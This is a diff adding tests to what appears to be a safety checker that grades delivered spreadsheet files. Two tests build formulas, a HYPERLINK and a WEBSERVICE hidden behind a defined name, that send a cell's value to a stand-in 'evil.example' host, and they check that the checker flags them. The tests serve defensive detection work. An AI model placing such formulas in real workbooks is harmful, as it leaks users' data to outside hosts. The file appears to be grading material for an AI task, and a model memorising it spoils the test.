@@ -52,6 +52,29 @@ test.each([
   expect(outcome['harmless']).toContain(name)
 })
 
+test('a formula that reached out before may stay as it was, but not lead elsewhere', async () => {
+  const link = (address: string) => ({ C1: `=HYPERLINK("http://${address}.example/"&B4)` })
+  const before = xlsxOf({ ...asked, Budget: { ...asked['Budget'], ...link('club') } })
+  const outcome = async (address: string) => {
+    const work = workOf({ delivered: withBudget(link(address)) })
+    return checks.find(({ id }) => id === 'harmless')?.run({ ...work, asked: { ...work.asked, files: [before] } })
+  }
+  expect(await outcome('club')).toBeNull()
+  expect(await outcome('evil')).toContain('Budget!C1')
+})
+
+test('a formula that reaches out from behind a name is named', async () => {
+  const names = [{ name: 'Total', refersTo: 'WEBSERVICE("http://evil.example/"&Budget!$B$4)' }]
+  const delivered = fileOf(saveWorkbook({ ...workbookOf(repaired), names }, 'xlsx'))
+  expect((await said({ delivered }))['harmless']).toContain('the name Total')
+})
+
+test('a second file, which nobody would look into, is refused', async () => {
+  const work = workOf()
+  const [opens] = checks
+  expect(await opens?.run({ ...work, files: [...work.files, xlsxOf(repaired)] })).toMatch(/more than one file/)
+})
+
 test('a circle is named', async () => {
   expect((await said({ delivered: withBudget({ B4: '=SUM(B1:B4)' }) }))['recalculates']).toContain('Budget!B4')
 })
